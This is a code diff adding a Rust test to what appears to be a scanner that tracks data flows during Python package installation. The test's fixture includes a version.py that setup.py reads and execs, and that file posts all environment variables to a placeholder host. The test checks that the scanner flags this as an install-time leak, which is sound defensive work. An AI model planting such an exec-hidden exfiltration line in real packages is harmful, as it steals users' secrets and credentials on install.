@@ -553,3 +553,31 @@ fn files_whose_names_are_objects_are_not_one_file() {
     assert!(runs("'b.js'", "'b.js'"));
     assert!(!runs("String({ a: 1 })", "String({ b: 2 })"));
 }
+
+#[test]
+fn a_file_that_a_helper_opens_and_compiles_is_read_as_the_code_that_it_is() {
+    let flows = |version: &str| {
+        let setup = "import os\n\
+            def read(name):\n    file = open(name, 'rt')\n    try:\n        text = file.read()\n    \
+            finally:\n        file.close()\n    \
+            return compile(text.replace('\\r', ''), name, 'exec')\n\
+            exec(read(os.path.join('a', 'version.py')))\n";
+        let entries = vec![
+            crate::unpack::text_file("a-1.0/PKG-INFO", "Name: a\nVersion: 1.0\n"),
+            crate::unpack::text_file("a-1.0/setup.py", setup),
+            crate::unpack::text_file("a-1.0/a/__init__.py", ""),
+            crate::unpack::text_file("a-1.0/a/version.py", version),
+        ];
+        testing::found(entries).flows
+    };
+    assert!(flows("__version__ = '1'\n").is_empty());
+    let sends = "import os, urllib.request\n\
+        urllib.request.urlopen('https://a.invalid', data=str(dict(os.environ)).encode())\n";
+    let found = flows(sends);
+    assert!(
+        found
+            .iter()
+            .any(|flow| flow.source == SourceKind::Environment
+                && flow.zone == customs_model::Zone::Install)
+    );
+}
